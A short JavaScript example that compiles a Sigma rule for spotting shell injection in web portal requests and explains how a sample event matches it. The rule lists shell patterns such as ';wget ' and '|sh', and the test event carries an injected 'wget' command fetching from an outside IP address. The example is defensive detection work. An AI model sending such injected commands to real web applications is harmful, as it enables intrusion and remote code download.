// Matches an event against a Sigma rule, and says why it matched.
import { compileRules, parseSigma } from "@breakwater/sigma";

const yaml = `
title: Shell text in a portal request
logsource: {category: webserver}
detection:
  request:
    url|contains: ['$(', ';wget ', '|sh']
  ours:
    src_ip|cidr: 10.0.0.0/8
  condition: request and not ours
`;

const { rules, issues } = parseSigma(yaml, { file: "rule.yml" });
for (const { line, column, message } of issues)
  process.stderr.write(`rule.yml:${line}:${column}: ${message}\n`);

const event = { url: "/portal?user=a;wget http://203.0.113.9/x", src_ip: "203.0.113.4" };
for (const { rule, matched } of compileRules(rules).match(event)) {
  process.stdout.write(`${rule.title}\n`);
  for (const { field, operator, pattern, value } of matched())
    process.stdout.write(`  ${field}|${operator}: ${pattern} in ${value}\n`);
}
